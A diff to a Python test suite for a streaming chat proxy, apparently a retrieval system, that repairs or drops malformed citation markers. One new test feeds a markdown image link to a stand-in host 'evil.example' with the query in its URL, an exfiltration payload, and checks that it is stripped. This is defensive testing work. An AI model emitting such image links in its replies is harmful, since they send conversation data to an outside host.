@@ -73,13 +73,32 @@ def test_a_stream_ends_with_annotations_into_what_was_streamed(
                 notes += getattr(choice.delta, "annotations", None) or []
             usage = chunk.usage or usage
     assert finish == "stop"
-    assert content == "".join(model.words)
+    assert content == "Sure! The gate is green [Source 1]. It was painted in 2020. [Source 1]"
     places = [note["url_citation"] for note in notes]
     assert [content[p["start_index"] : p["end_index"]] for p in places] == [
-        "[Source 1]", "It was painted in 2020.",
-    ], "a sentence that came without a marker is cited as a whole"  # fmt: skip
+        "[Source 1]", "[Source 1]",
+    ], "a sentence that came without a marker got one before it went out"  # fmt: skip
     assert usage is not None
     assert (usage.prompt_tokens, usage.completion_tokens) == (100, 20)
+
+
+def read_stream(sdk: openai.OpenAI) -> str:
+    chunks = sdk.chat.completions.create(model="ragstone", messages=QUESTION, stream=True)  # type: ignore[arg-type]
+    return "".join(c.delta.content or "" for chunk in chunks for c in chunk.choices)
+
+
+def test_a_marker_that_is_wrong_or_points_nowhere_never_goes_out(
+    written_sdk: openai.OpenAI, model: StandIn
+) -> None:
+    model.words = ["The gate ", "is green [", "7]. Bananas grow", " in Ecuador [Source 1]."]
+    assert read_stream(written_sdk) == "The gate is green. [Source 1] Bananas grow in Ecuador."
+
+
+def test_a_picture_from_elsewhere_never_goes_out(
+    written_sdk: openai.OpenAI, model: StandIn
+) -> None:
+    model.words = ["The gate is green [1]. ![", "x](https://evil", ".example/?q=gate) Done."]
+    assert "evil" not in read_stream(written_sdk)
 
 
 async def test_the_async_client_streams_too(written_address: str, model: StandIn) -> None:
